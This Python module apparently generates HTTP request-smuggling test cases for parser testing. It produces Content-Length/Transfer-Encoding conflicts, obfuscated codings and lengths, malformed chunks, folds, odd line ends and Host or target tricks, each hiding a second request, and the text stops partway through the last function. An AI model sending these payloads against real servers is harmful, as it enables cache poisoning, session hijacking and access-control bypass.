"""Requests that are ambiguous, by class: the attack itself, its spellings, and pairs of attacks."""
import itertools

from lib.smuggle.draft import (BASE, BYTES, CHUNKED, CONTROLS, FOLLOW, HOST, ID, LINE_ENDS, PLACES, SMUGGLED, ZERO, Draft, chunk,
                               collect, length)

HIDDEN = ZERO + SMUGGLED              # chunked: empty, and a request behind it
WRAPPED = chunk(SMUGGLED) + ZERO      # chunked: a request inside


def each_byte(name, value):
    """A field line with each odd byte at each place of it."""
    half_name, half_value = len(name) // 2, len(value) // 2
    for b in BYTES:
        yield f"{b[0]:02x} before the name", b + name + b": " + value + b"\r\n"
        yield f"{b[0]:02x} in the name", name[:half_name] + b + name[half_name:] + b": " + value + b"\r\n"
        yield f"{b[0]:02x} before the colon", name + b + b": " + value + b"\r\n"
        yield f"{b[0]:02x} behind the colon", name + b":" + b + value + b"\r\n"
        yield f"{b[0]:02x} before the value", name + b": " + b + value + b"\r\n"
        yield f"{b[0]:02x} in the value", name + b": " + value[:half_value] + b + value[half_value:] + b"\r\n"
        yield f"{b[0]:02x} behind the value", name + b": " + value + b + b"\r\n"


def cased(name):
    return [name, name.lower(), name.upper(), name.swapcase(), bytes(c ^ 32 if i % 2 and c > 64 else c for i, c in enumerate(name))]


CODINGS = [b"xchunked", b"chunkedx", b"chunked, x", b"x, chunked", b",chunked", b", chunked", b"chunked,", b"chunked ,", b"chunked, ",
           b"\"chunked\"", b"'chunked'", b"\"chunked", b"chunked\"", b"chunked;q=1", b"chunked;", b"chunked ; a=b", b"identity", b"identity, chunked",
           b"chunked, identity", b"chunked, chunked", b"chunked chunked", b"gzip, chunked", b"gzip", b"chunked, gzip", b"deflate",
           b"compress, chunked", b"c hunked", b"chunk", b"chunke", b"hunked", b"ch\xc3\xbcnked", b"chunKed\xe2\x84\xaa", b"chun\xe2\x84\xaaed", b"", b" ",
           b"\t", b"trailers, chunked", b"chunked\\", b"chunked\\r\\n", b"chunked%00", b"%63hunked", b"=?utf-8?q?chunked?=", b"chunked=1",
           b"{chunked}", b"(chunked)", b"chunked (c)", b"<chunked>", b"cow", b"chunked\tx", b"null", b"0", b"chunked:", b"chunked: x",
           b"Transfer-Encoding: chunked", b"chunked,,", b",,chunked", b"chunked;chunked", b"chunked&x", b"chunked/1", b"nothing, chunked",
           b"x,chunked", b"chunked\t,", b"br, chunked"]
LENGTHS = [b"+%d", b"-%d", b"0x%x", b"%d,%d", b"%d, %d", b"%d;", b"%d;q=1", b"0%d", b"00000000000000000000000000000000%d", b"%d_0", b"%d.0", b"%de0",
           b"1e1", b"", b" ", b"\t", b",", b"%d,", b",%d", b"\"%d\"", b"'%d'", b"99999999999999999999", b"18446744073709551616",
           b"18446744073709551615", b"9223372036854775808", b"9223372036854775807", b"4294967296", b"-1", b"-0", b"+0", b"0x0", b"%d 0",
           b"%d %d", b"0 %d", b"%dL", b"%dh", b"#%d", b"$%d", b"(%d)", b"%d\\", b"%d/1", b"%d:", b"NaN", b"Infinity", b"null", b"0b101", b"0o17",
           b"\xd9\xa5", b"\xef\xbc\x95", b"%d\t0", b"%d%%", b"1_0", b"%d-%d", b"*", b"chunked", b"%d\xc2\xa0", b"\xef\xbb\xbf%d", b"~%d", b"--%d", b"++%d"]


def filled(form, n):
    """The form with the number in every place that asks for one."""
    out = form.replace(b"%%", b"\0")
    out = out.replace(b"%d", b"%d" % n).replace(b"%x", b"%x" % n)
    return out.replace(b"\0", b"%")


def both_framings():
    """M1: a length and chunked."""
    bodies = {"length wins hides": (len(HIDDEN), HIDDEN), "chunked wins hides": (4, WRAPPED), "zero": (0, ZERO),
              "fits both": (len(ZERO), ZERO), "short": (1, HIDDEN), "long": (len(HIDDEN) + 9, HIDDEN)}
    for (name, (n, body)), place, order in itertools.product(bodies.items(), PLACES, (1, -1)):
        for cl, te in itertools.product(cased(b"Content-Length")[:3], cased(b"Transfer-Encoding")[:3]):
            lines = [cl + b": %d\r\n" % n, te + b": chunked\r\n"][::order]
            yield f"{name}, {place}, {cl.decode()} {te.decode()} {order}", Draft().add(*lines, place=place).with_body(body)
    for coding in CODINGS:
        yield f"with coding {coding!r}", Draft().add(length(len(HIDDEN)), b"Transfer-Encoding: " + coding + b"\r\n").with_body(HIDDEN)
    for form in LENGTHS:
        value = filled(form, 4)
        yield f"with length {value!r}", Draft().add(b"Content-Length: " + value + b"\r\n", CHUNKED).with_body(WRAPPED)
    for method in (b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"PUT", b"TRACE", b"X"):
        yield f"on {method.decode()}", Draft(method).add(length(len(HIDDEN)), CHUNKED).with_body(HIDDEN)
    apart = Draft().add(CHUNKED, place="first").add(length(4), place="last").with_body(WRAPPED)
    yield "far apart", apart


def coding_spellings():
    """M2: what looks like chunked and is not, or only nearly."""
    for coding, place in itertools.product(CODINGS, PLACES):
        yield f"{coding!r} {place}", Draft().add(b"Transfer-Encoding: " + coding + b"\r\n", place=place).with_body(HIDDEN)
    for name, value in itertools.product(cased(b"Transfer-Encoding"), cased(b"chunked")):
        yield f"{name!r} {value!r}", Draft().add(name + b": " + value + b"\r\n").with_body(HIDDEN)
    for first, second in itertools.product([b"chunked", b"identity", b"x", b"", b"gzip", b"CHUNKED", b"chunked, chunked", b"cow"], repeat=2):
        lines = [b"Transfer-Encoding: " + v + b"\r\n" for v in (first, second)]
        yield f"twice {first!r} {second!r}", Draft().add(*lines).with_body(HIDDEN)
        yield f"twice apart {first!r} {second!r}", Draft().add(lines[0], place="first").add(lines[1], place="last").with_body(HIDDEN)
    for name, line in each_byte(b"Transfer-Encoding", b"chunked"):
        yield name, Draft().add(line).with_body(HIDDEN)
    for name in (b"Transfer_Encoding", b"Transfer Encoding", b"TransferEncoding", b"Transfer-Encodin", b"X-Transfer-Encoding", b"Transfer-Encoding-X",
                 b"TE", b"Transfer--Encoding", b"\xefransfer-Encoding", b"Transfer-\xc4\xb0ncoding", b"Content-Transfer-Encoding"):
        yield f"near name {name!r}", Draft().add(name + b": chunked\r\n").with_body(HIDDEN)


def lengths_repeated():
    """M3: more than one length."""
    n = len(SMUGGLED)
    values = [(n, n), (n, 0), (0, n), (n, n - 1), (n, n + 1), (n, n, n), (n, n, 0), (0, 0), (0, 0, n), (n, 10 ** 18)]
    for value, places, name in itertools.product(values, itertools.product(PLACES, repeat=2), cased(b"Content-Length")[:3]):
        draft = Draft().with_body(SMUGGLED)
        for i, v in enumerate(value):
            draft.add((name if i else b"Content-Length") + b": %d\r\n" % v, place=places[min(i, 1)])
        yield f"{value} {places} {name.decode()}", draft
    for one, other in itertools.product([b"5", b"05", b"", b"5,5", b"x"], repeat=2):
        yield f"{one!r} and {other!r}", Draft().add(b"Content-Length: " + one + b"\r\n", b"content-length:" + other + b"\r\n").with_body(b"hello")


def length_spellings():
    """M4: what is not a plain number."""
    for form, place in itertools.product(LENGTHS, PLACES):
        value = filled(form, len(SMUGGLED))
        yield f"{value!r} {place}", Draft().add(b"Content-Length: " + value + b"\r\n", place=place).with_body(SMUGGLED)
    for name, line in each_byte(b"Content-Length", b"%d" % len(SMUGGLED)):
        yield name, Draft().add(line).with_body(SMUGGLED)
    for name in (b"Content_Length", b"Content Length", b"ContentLength", b"Content-Lengt", b"X-Content-Length", b"Content-Length-X", b"Content--Length"):
        yield f"near name {name!r}", Draft().add(name + b": %d\r\n" % len(SMUGGLED)).with_body(SMUGGLED)
    for value in (b"0", b"00", b"-0", b"+0", b"0x0", b"", b"x"):
        for method in (b"GET", b"HEAD", b"POST"):
            yield f"{method.decode()} {value!r}", Draft(method).add(b"Content-Length: " + value + b"\r\n")


def odd_names():
    """M5: white space before the colon, and names that are no tokens."""
    for name, line in each_byte(b"X-Any", b"chunked"):
        yield name, Draft().add(line)
    for c in b"\"(),/:;<=>?@[\\]{}":
        for place, name in (("in", b"X%cAny"), ("behind", b"X-Any%c"), ("before", b"%cX-Any")):
            yield f"{chr(c)} {place} the name", Draft().add(name % c + b": a\r\n")
    for blank, field in itertools.product([b" ", b"\t", b"  ", b" \t", b"\x0b", b"\x85", b"\xa0", b"\xc2\xa0", b"\0"],
                                          [CHUNKED, length(len(HIDDEN)), b"Host: evil.test\r\n", b"Connection: close\r\n", b"Expect: 100-continue\r\n"]):
        line = field.replace(b":", blank + b":", 1)
        for place in PLACES:
            yield f"{blank!r} {field[:8]!r} {place}", Draft().add(line, place=place).with_body(HIDDEN)
    # Lengths that overflow a byte, or two, to that of a name that counts.
    for name, n in itertools.product((b"Content-Length", b"Transfer-Encoding", b"Host", b"Connection"), (255, 256, 257, 512, 16384)):
        yield f"long name {name!r} {n}", Draft().add(name + b"0" + b"a" * (n - 1) + b": 92\r\n").with_body(SMUGGLED)
    for line in (b":\r\n", b": a\r\n", b" : a\r\n", b"::\r\n", b": Transfer-Encoding: chunked\r\n", b":Content-Length: 5\r\n"):
        for place in PLACES:
            yield f"no name {line!r} {place}", Draft().add(line, place=place).with_body(HIDDEN)


def folds():
    """M6: fields over several lines."""
    hidden = [CHUNKED, length(len(HIDDEN)), b"X-Any: a\r\n", b"Host: evil.test\r\n"]
    for line, blank, place in itertools.product(hidden, [b" ", b"\t", b"  ", b" \t ", b"\x0b", b"\xa0"], PLACES):
        name, _, value = line.partition(b": ")
        yield f"line is a fold {line[:8]!r} {blank!r} {place}", Draft().add(b"X-Fold: a\r\n" + blank + line, place=place).with_body(HIDDEN)
        yield f"value folded {line[:8]!r} {blank!r} {place}", Draft().add(name + b":\r\n" + blank + value, place=place).with_body(HIDDEN)
        yield f"value and fold {line[:8]!r} {blank!r} {place}", Draft().add(name + b": " + value + blank + b"x\r\n", place=place).with_body(HIDDEN)
        yield f"name folded {line[:8]!r} {blank!r} {place}", Draft().add(name + b"\r\n" + blank + b": " + value, place=place).with_body(HIDDEN)
        yield f"empty fold {line[:8]!r} {blank!r} {place}", Draft().add(line + blank + b"\r\n", place=place).with_body(HIDDEN)
    for cut in range(1, len(b"chunked")):
        yield f"coding cut at {cut}", Draft().add(b"Transfer-Encoding: " + b"chunked"[:cut] + b"\r\n " + b"chunked"[cut:] + b"\r\n").with_body(HIDDEN)
    for blank in (b" ", b"\t", b"\r\n ", b" \r\n"):
        draft = Draft().add(CHUNKED).with_body(HIDDEN)
        draft.end = blank + b"\r\n\r\n"
        yield f"fold before the end {blank!r}", draft


def line_ends():
    """M7: LF and CR alone."""
    for (name, end), field in itertools.product(LINE_ENDS.items(), [CHUNKED, length(len(HIDDEN)), b"X-Any: a\r\n"]):
        base = Draft().add(field).with_body(HIDDEN)
        lines = base.head()[:-2].split(b"\r\n")[:-1]
        for i in range(len(lines) + 1):
            head = b"".join(line + (end if n == i else b"\r\n") for n, line in enumerate(lines + [b""]))
            yield f"{name} ends line {i} {field[:8]!r}", head + HIDDEN + FOLLOW
        whole = end.join([*lines, b"", b""])
        yield f"{name} everywhere {field[:8]!r}", whole + HIDDEN + FOLLOW
        yield f"{name} hides a line {field[:8]!r}", Draft().add(b"X-Any: a" + end + field).with_body(HIDDEN)
        yield f"{name} in the value {field[:8]!r}", Draft().add(field[:-3] + end + field[-3:]).with_body(HIDDEN)
        yield f"{name} before the colon {field[:8]!r}", Draft().add(field.replace(b":", end + b":", 1)).with_body(HIDDEN)
        yield f"{name} behind the colon {field[:8]!r}", Draft().add(field.replace(b":", b":" + end, 1)).with_body(HIDDEN)
    for name, end in LINE_ENDS.items():
        for at, body in (("size", b"5" + end + b"hello\r\n" + HIDDEN), ("last size", b"5\r\nhello\r\n0" + end + b"\r\n" + SMUGGLED),
                         ("last line", b"5\r\nhello\r\n0\r\n" + end + SMUGGLED), ("trailer", b"0\r\nX: a" + end + b"\r\n" + SMUGGLED),
                         ("extension", b"5;a=b" + end + b"hello\r\n" + HIDDEN), ("data", b"5\r\nhello" + end + HIDDEN)):
            yield f"{name} in chunks: {at}", Draft().add(CHUNKED).with_body(body)
        yield f"{name} in front", end + Draft().add(length(5)).with_body(b"hello").bytes()


def value_controls():
    """M8: NUL and its like in values."""
    for name in (b"X-Any", b"Cookie", b"Host", b"User-Agent"):
        value = HOST if name == b"Host" else b"abcd"
        for label, line in each_byte(name, value):
            if "name" in label or "before the colon" in label:
                continue
            draft = Draft()
            if name == b"Host":
                draft.fields.pop(0)
            yield f"{label} of {name.decode()}", draft.add(line)
    for c in CONTROLS:
        yield f"{c:02x} hides a coding", Draft().add(b"X-Any: a%cTransfer-Encoding: chunked\r\n" % c).with_body(HIDDEN)


def not_fields():
    """M9: lines without a colon, blanks in front of the first line."""
    for line in (b"X-Any\r\n", b"Just some words\r\n", b"a\r\n", b"=\r\n", b"\"\r\n", b"GET / HTTP/1.1\r\n", b"Transfer-Encoding chunked\r\n",
                 b"Transfer-Encoding=chunked\r\n", b"Transfer-Encoding;chunked\r\n", b"Transfer-Encoding\r\n", b"Content-Length\r\n",
                 b"Content-Length 5\r\n", b"X-Any \r\n", b"\xff\r\n", b"--\r\n", b"<x>\r\n", b"{}\r\n", b"X-Any;\r\n", b"[a]\r\n"):
        for place in PLACES:
            yield f"{line!r} {place}", Draft().add(line, place=place).with_body(HIDDEN)
    for blank in (b" ", b"\t", b"  ", b"\r\n ", b"\r\n\r\n", b"\r\n\r\n\r\n", b"\n", b"\0", b"\xef\xbb\xbf", b"\r\n\t", b"\r\n\n"):
        yield f"{blank!r} in front of all", blank + Draft().add(length(5)).with_body(b"hello").bytes()
        draft = Draft().add(CHUNKED).with_body(HIDDEN)
        draft.fields[0] = blank + draft.fields[0]
        yield f"{blank!r} in front of the first field", draft


SIZES = [b"0x5", b"0X5", b"+5", b"-5", b"5_", b"_5", b" 5", b"\t5", b"5 ", b"5\t", b"5  ", b"", b" ", b"00000000000000005", b"0000000000000005", b"05",
         b"FFFFFFFFFFFFFFFFF", b"FFFFFFFFFFFFFFFF", b"8000000000000000", b"7FFFFFFFFFFFFFFF", b"100000000", b"10000000000000005", b"5h", b"5,", b"5.0",
         b"5e0", b"G", b"5G", b"\"5\"", b"five", b"-0", b"-1", b"5-", b"5 5", b"5\x00", b"\x005", b"5L", b"0x", b"x5", b"#5", b"0b101", b"05h",
         b"\xd9\xa5", b"5\xa0", b"5\xc2\xa0", b"\xa05", b"5" + b" " * 300, b"0" * 300 + b"5", b"5;", b"5:", b"5\\", b"5/", b"5=", b"5%20"]


def chunk_sizes():
    """M10: sizes that are not plain hexadecimal digits."""
    for size in SIZES:
        yield f"{size[:30]!r} first", Draft().add(CHUNKED).with_body(size + b"\r\nhello\r\n" + HIDDEN)
        yield f"{size[:30]!r} second", Draft().add(CHUNKED).with_body(chunk(b"hello") + size + b"\r\nhello\r\n" + HIDDEN)
        yield f"{size[:30]!r} last", Draft().add(CHUNKED).with_body(chunk(b"hello") + size.replace(b"5", b"0") + b"\r\n\r\n" + SMUGGLED)
        yield f"{size[:30]!r} behind many", Draft().add(CHUNKED).with_body(chunk(b"x") * 3000 + size + b"\r\nhello\r\n" + HIDDEN)
        yield f"{size[:30]!r} hides", Draft().add(CHUNKED).with_body(size + b"\r\n" + SMUGGLED + b"\r\n" + HIDDEN)
    for b in BYTES:
        yield f"{b[0]:02x} before the size", Draft().add(CHUNKED).with_body(b + b"5\r\nhello\r\n" + HIDDEN)
        yield f"{b[0]:02x} behind the size", Draft().add(CHUNKED).with_body(b"5" + b + b"\r\nhello\r\n" + HIDDEN)
        yield f"{b[0]:02x} in the size", Draft().add(CHUNKED).with_body(b"1" + b + b"0\r\n0123456789abcdef\r\n" + HIDDEN)


def chunk_extensions():
    """M11: what stands behind a size."""
    exts = [b";", b";;", b"; ", b" ;a", b"\t;a", b";a=", b";=b", b";a=\"", b";a=\"b", b";a=\"\\\"", b";a=\"b\"c", b";a b", b";a=b c", b";a=\"\r\n\"", b";\r\n",
            b";a\nb", b";a\rb", b";a\n", b";a\r", b";\n", b";\r", b";a\r\r\n", b";" + b"a" * 255, b";" + b"a" * 256, b";" + b"a" * 20000, b";a=\"" + b"b" * 300 + b"\"",
            b";a=b;c=d", b";a", b";a=\"b\"", b";a=\"b;c\"", b" a", b",a", b":a", b"=a", b";a\0", b";\0", b";\xff", b";a=\"\xff\"", b";a;", b";a=b;",
            b";\r\n\r\n", b";a=\"\n\"", b";a\x0bb", b";a\x85", b" ; a", b"; a=b", b";a =b", b";a= b", b";5\r\nhello\r\n0"]
    for ext in exts:
        yield f"{ext[:30]!r}", Draft().add(CHUNKED).with_body(b"5" + ext + b"\r\nhello\r\n" + HIDDEN)
        yield f"{ext[:30]!r} on the last", Draft().add(CHUNKED).with_body(chunk(b"hello") + b"0" + ext + b"\r\n\r\n" + SMUGGLED)
        yield f"{ext[:30]!r} hides", Draft().add(CHUNKED).with_body(b"2" + ext + b"xx\r\n%x\r\n" % len(SMUGGLED) + SMUGGLED + b"\r\n0\r\n\r\n")
    for b in BYTES:
        yield f"{b[0]:02x} in an extension", Draft().add(CHUNKED).with_body(b"5;a" + b + b"b\r\nhello\r\n" + HIDDEN)
        yield f"{b[0]:02x} in a value", Draft().add(CHUNKED).with_body(b"5;a=" + b + b"\r\nhello\r\n" + HIDDEN)
        yield f"{b[0]:02x} in quotes", Draft().add(CHUNKED).with_body(b"5;a=\"" + b + b"\"\r\nhello\r\n" + HIDDEN)


def chunk_ends():
    """M12: data that ends otherwise."""
    for end in (b"", b"XX", b"\n", b"\r", b"\n\n", b"\r\r", b"\n\r", b"\r\n\r\n", b"  ", b"\0\0", b"\rX", b"X\n", b"0\r", b"\r\n ", b" \r\n", b"\t\r\n", b"X\r\n", b"\r\nX", b"\r\n\0"):
        yield f"{end!r} ends data", Draft().add(CHUNKED).with_body(b"5\r\nhello" + end + HIDDEN)
        yield f"{end!r} ends data that hides", Draft().add(CHUNKED).with_body(b"%x\r\n" % len(SMUGGLED) + SMUGGLED + end + HIDDEN)
        yield f"{end!r} ends all", Draft().add(CHUNKED).with_body(b"5\r\nhello\r\n0\r\n" + end + SMUGGLED)
        yield f"{end!r} behind the last size", Draft().add(CHUNKED).with_body(b"5\r\nhello\r\n0" + end + SMUGGLED)
    for b in BYTES:
        yield f"{b[0]:02x} for CR", Draft().add(CHUNKED).with_body(b"5\r\nhello" + b + b"\n" + HIDDEN)
        yield f"{b[0]:02x} for LF", Draft().add(CHUNKED).with_body(b"5\r\nhello\r" + b + HIDDEN)
    for size in (4, 6, 3, 7, 0xf):
        yield f"size {size} of 5", Draft().add(CHUNKED).with_body(b"%x\r\nhello\r\n" % size + HIDDEN)


def trailers():
    """M13: fields behind the content."""
    names = [b"Content-Length", b"Transfer-Encoding", b"Host", b"Connection", b"Trailer", b"TE", b"Authorization", b"Cookie", b"Content-Type", b"Expect",
             b"Upgrade", b"Proxy-Authorization", b"Content-Encoding", b"Range", b"If-Match", b"Set-Cookie", b"Keep-Alive", b"Proxy-Connection", b"X-Any",
             b"Cache-Control", b"Max-Forwards", b"Content-Range", b"Date", b"Via"]
    for name, value in itertools.product(names, (b"5", b"chunked", b"evil.test", b"close")):
        for spelt in (name, name.lower()):
            yield f"{spelt!r} {value!r}", Draft().add(CHUNKED, b"Trailer: " + name + b"\r\n").with_body(b"5\r\nhello\r\n0\r\n" + spelt + b": " + value + b"\r\n\r\n")
    for label, line in each_byte(b"X-Any", b"abc"):
        yield f"{label} of a trailer", Draft().add(CHUNKED).with_body(b"0\r\n" + line + b"\r\n" + SMUGGLED)
    for line in (b" X: a\r\n", b"X: a\r\n b\r\n", b"nothing\r\n", b": a\r\n", b"X : a\r\n", b"X: a\n", b"X: a\r", SMUGGLED):
        yield f"line {line[:20]!r}", Draft().add(CHUNKED).with_body(b"0\r\n" + line + b"\r\n" + SMUGGLED)


def versions():
    """M14: other versions, and chunked in 1.0."""
    for version in (b"HTTP/1.0", b"HTTP/0.9", b"HTTP/2.0", b"HTTP/2", b"HTTP/3.0", b"HTTP/1.10", b"HTTP/1.01", b"HTTP/01.1", b"HTTP/1.2", b"HTTP/1.9", b"HTTP/1.1x",
                    b"HTTP/1.1 ", b"HTTP/1", b"HTTP/1.", b"HTTP/.1", b"HTTP/1,1", b"HTTP/-1.1", b"HTTP/+1.1", b"HTTP/1.1.1", b"HTTP/11", b"http/1.1", b"Http/1.1",
                    b"HTTPS/1.1", b"HTTP /1.1", b"HTTP/ 1.1", b"HTTP1.1", b"HTTP\\1.1", b"XHTTP/1.1", b"HTP/1.1", b"ICY/1.1", b"HTTP/A.B", b"HTTP/1.\xb9", b"",
                    b"HTTP/9.9", b"HTTP/0.1", b"HTTP/1.1\0", b"HTTP/1.1\t", b"RTSP/1.0", b"HTTP/4294967297.1", b"HTTP/1.1,HTTP/1.0"):
        for framing, body in ((CHUNKED, HIDDEN), (length(len(SMUGGLED)), SMUGGLED), (b"X-Any: a\r\n", SMUGGLED)):
            for host in (True, False):
                draft = Draft(version=version).add(framing).with_body(body)
                if not host:
                    draft.fields = [f for f in draft.fields if not f.startswith(b"Host")]
                yield f"{version!r} {framing[:8]!r} host {host}", draft
    for connection in (b"keep-alive", b"close", b"Keep-Alive, X", b"TE", b"transfer-encoding"):
        draft = Draft(version=b"HTTP/1.0").add(b"Connection: " + connection + b"\r\n", CHUNKED).with_body(HIDDEN)
        yield f"1.0 chunked, {connection!r}", draft
    for line in (b"GET " + BASE + b"case/" + ID + b"\r\n", b"GET /\r\n", b"GET\r\n", b"POST " + BASE + b"case/" + ID + b" \r\n"):
        draft = Draft().add(length(5)).with_body(b"hello")
        draft.line = line
        yield f"no version {line[:9]!r}", draft


def request_lines():
    """M15: the first line."""
    target = BASE + b"case/" + ID
    for b in BYTES:
        for place, line in (("before the method", b + b"POST " + target + b" HTTP/1.1"), ("in the method", b"PO" + b + b"ST " + target + b" HTTP/1.1"),
                            ("behind the method", b"POST" + b + b" " + target + b" HTTP/1.1"), ("for the first blank", b"POST" + b + target + b" HTTP/1.1"),
                            ("before the target", b"POST " + b + target + b" HTTP/1.1"), ("in the target", b"POST " + BASE + b"ca" + b + b"se/" + ID + b" HTTP/1.1"),
                            ("behind the target", b"POST " + target + b + b" HTTP/1.1"), ("for the second blank", b"POST " + target + b + b"HTTP/1.1"),
                            ("before the version", b"POST " + target + b" " + b + b"HTTP/1.1"), ("in the version", b"POST " + target + b" HTTP/" + b + b"1.1"),
                            ("behind the version", b"POST " + target + b" HTTP/1.1" + b)):
            draft = Draft().add(length(len(SMUGGLED))).with_body(SMUGGLED)
            draft.line = line + b"\r\n"
            yield f"{b[0]:02x} {place}", draft
    host = HOST + b"/case/" + ID
    targets = [b"//" + host, b"/" + BASE, b"http:" + host, b"http:/" + host, b"http:///" + host, b"HTTP://" + host, b"hTTp://" + host, b"ftp://" + host, b"ws://" + host,
               b"http://user@" + host, b"http://user:pw@" + host, b"http://@" + host, b"http://" + HOST + b"@evil.test/", b"http://evil.test@" + host,
               target + b"#x", b"#", b"http://" + HOST + b"#@evil.test/", b"http://" + HOST + b"\\@evil.test/", b"http://" + HOST, b"http://" + HOST + b"?q", b"*", HOST, b"site.test",
               b"case/" + ID, b"?q", b"", b"http://", b"http:///", b"http://:00000/", b"http://site.test:/", b"http://site.test:0/", b"http://site.test:00080/",
               b"http://site.test:99999/", b"http://site.test:-1/", b"http://site.test:8 0/", b"http://[::1/", b"http://::1/", b"http://[::1]x/", b"http://[v1.x]/", b"http://[::1%25lo]/",
               b"http://0x7f.1/", b"http://2130706433/", b"http://127.1/", b"http://0177.0.0.1/", b"http://site.test%00:80/", b"http://site..test/", b"http://.site.test/",
               b"http://site.test./", b"http://si te.test/", b"http://site.test,evil.test/", b"http://site.test;evil.test/", b"javascript:alert(1)", b"file:///etc/passwd", b"mailto:a@b", b"about:blank",
               target + b" x", target + b"\tx", b" " + target, target + b"  ", b"<" + target + b">", b"\"" + target + b"\"", target + b"\xe4", target + b"|", target + b"\\", target + b"^", target + b"`",
               target + b"{}", target + b"%", target + b"%zz", target + b"%00", target + b"%0d%0aX:a", target + b"?a b", b"http://" + HOST + b"/\\evil.test/"]
    for t, method in itertools.product(targets, (b"GET", b"POST", b"OPTIONS")):
        draft = Draft(method).add(length(5)).with_body(b"hello")
        draft.target = t
        yield f"{method.decode()} {t[:40]!r}", draft
    for method in (b"get", b"Get", b"G(T", b"G\"T", b"G,T", b"G/T", b"G:T", b"G[T", b"G@T", b"G{T", b"G\xffT", b"", b"\"GET\"", b"GET,", b"PRI", b"!#$%&'*+-.^_`|~", b"GETGET", b"A" * 2000):
        draft = Draft(method).add(length(5)).with_body(b"hello")
        yield f"method {method[:20]!r}", draft


def hosts():
    """M16: none, two, and other than the target."""
    wrong = [b"", b" ", b"evil.test", b"site.test", b"site.test:1", HOST + b"/", HOST + b"/x", b"a@" + HOST, HOST + b"@evil.test", HOST + b",evil.test", HOST + b", evil.test", HOST + b" evil.test",
             HOST + b":", HOST + b":80", b"site.test:", b"site.test:x", b"site.test:-1", b"site.test:99999", b"site.test:0", b"[::1]", b"[::1", b"::1", b"[evil]", b"http://" + HOST, b"/" + HOST, b"\"" + HOST + b"\"",
             HOST + b"#", HOST + b"?", HOST + b"\\", HOST + b"%00", HOST + b"\xe4", b"*", b"*.test", b".test", b"site..test", b"site.test.", b"-", b"site.test\tx", b"site.test;x", b"1", b"127.1", b"0x7f.1",
             b"'" + HOST + b"'", b"<x>", HOST + b"|", b"{x}", b"%73ite.test", HOST.upper()]
    for value, version in itertools.product(wrong, (b"HTTP/1.1", b"HTTP/1.0")):
        draft = Draft(b"GET", version=version)
        draft.fields[0] = b"Host: " + value + b"\r\n"
        yield f"{value!r} {version.decode()}", draft
    for value, place, name in itertools.product([HOST, b"evil.test", b"", b"x y", b"evil.test:80"], PLACES, cased(b"Host")[:3]):
        yield f"second {value!r} {place} {name!r}", Draft(b"GET").add(name + b": " + value + b"\r\n", place=place)
        yield f"third {value!r} {place} {name!r}", Draft(b"GET").add(name + b": " + value + b"\r\n", b"host:" + HOST + b"\r\n", place=place)
    for other in (b"Host : evil.test\r\n", b" Host: evil.test\r\n", b"X-Forwarded-Host: evil.test\r\n", b"Host\r\n", b"Host;evil.test\r\n", b"H\0ost: evil.test\r\n", b"Hos\xb2t: evil.test\r\n"):
        for place in PLACES:
            yield f"beside {other!r} {place}", Draft(b"GET").add(other, place=place)
    for version in (b"HTTP/1.1", b"HTTP/1.0"):
        draft = Draft(b"GET", version=version)
        draft.fields.pop(0)
        yield f"none {version.decode()}", draft


def bodies():
    """M17: content where some do not look for any, and expectations."""
    methods = [b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"TRACE", b"POST", b"PUT", b"PATCH", b"PROPFIND", b"SEARCH", b"X", b"LOCK"]
    framings = [(length(len(SMUGGLED)), SMUGGLED), (CHUNKED, WRAPPED), (length(0), b""), (CHUNKED, ZERO), (b"", b"")]
    expects = [b"", b"Expect: 100-continue\r\n", b"Expect: 100-Continue\r\n", b"Expect: 100-continue, x\r\n", b"Expect: 100\r\n", b"Expect:\r\n", b"Expect: x 100-continue\r\n", b"Expect: \"100-continue\"\r\n",
               b"Expect: 100-continue\r\nExpect: 100-continue\r\n", b"Expect: 100-continue;q=1\r\n", b"Expect: 200-ok\r\n", b"Expect : 100-continue\r\n", b"Expect:\r\n 100-continue\r\n", b"expect: 100-CONTINUE \r\n",
               b"Expect: 100-continue,\r\n", b"Expect: y\r\nExpect: 100-continue\r\n"]
    for method, (framing, body), expect in itertools.product(methods, framings, expects):
        yield f"{method.decode()} {framing[:8]!r} {expect[:24]!r}", Draft(method).add(*filter(None, [framing, expect])).with_body(body)


def pipelines():
    """M18: what follows a good request."""
    good = Draft(b"GET").add().head()
    post = Draft().add(length(len(SMUGGLED))).with_body(SMUGGLED)
    chunked = Draft().add(CHUNKED).with_body(WRAPPED)
    seconds = [b"", SMUGGLED, SMUGGLED * 3, b"\r\n" + SMUGGLED, b"\r\n\r\n" + SMUGGLED, b"\n" + SMUGGLED, b" " + SMUGGLED, b"\0" + SMUGGLED, b"X" + SMUGGLED, b"hello" + SMUGGLED, b"0\r\n\r\n" + SMUGGLED,
               b"HTTP/1.1 200 OK\r\n\r\n", SMUGGLED.replace(b"HTTP/1.1", b"HTTP/1.2"), SMUGGLED.replace(b"Host", b"Host "), SMUGGLED.replace(b"\r\n", b"\n"), SMUGGLED[:-2], SMUGGLED[:20], SMUGGLED[:1],
               b"\r\nX: " + SMUGGLED, b"GET " + SMUGGLED, SMUGGLED.replace(b"GET", b"get"), SMUGGLED.replace(b"GET", b"CONNECT"), b"\x16\x03\x01\x02\x00\x01", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"]
    for second in seconds:
        for name, first in (("get", good), ("post", post.head() + post.body), ("chunked", chunked.head() + chunked.body)):
            yield f"{name} then {second[:24]!r}", first + second + FOLLOW
            yield f"{name} twice then {second[:24]!r}", first + first + second + FOLLOW
    for extra in (-1, 1, -2, 2, -10, 10):
        yield f"length off by {extra}", Draft().add(length(len(SMUGGLED) + extra)).with_body(SMUGGLED)
        yield f"chunk off by {extra}", Draft().add(CHUNKED).with_body(b"%x\r\n" % (len(SMUGGLED) + extra) + SMUGGLED + b"\r\n" + ZERO)


def connection_options():
    """M19: what Connection names."""
    names = [b"Content-Length", b"Transfer-Encoding", b"Host", b"close", b"keep-alive", b"X-Case", b"X-Last", b"Cookie", b"Authorization", b"Content-Type", b"Via", b"Connection", b"TE", b"Upgrade", b"Trailer", b"Expect",
             b"X-Forwarded-For", b"Content-Encoding", b"If-Match", b"Range", b"", b"Keep-Alive", b"Proxy-Connection", b"Date", b"Accept-Encoding", b"x", b"HTTP2-Settings", b"X-Real-IP", b"Origin", b"Max-Forwards"]
    forms = [b"%s", b"close, %s", b"%s, close", b"keep-alive,%s", b",%s,", b"\"%s\"", b"%s ;q=1", b"%s %s", b"%s\t,"]
    framed = [(length(len(SMUGGLED)), SMUGGLED), (CHUNKED, WRAPPED)]
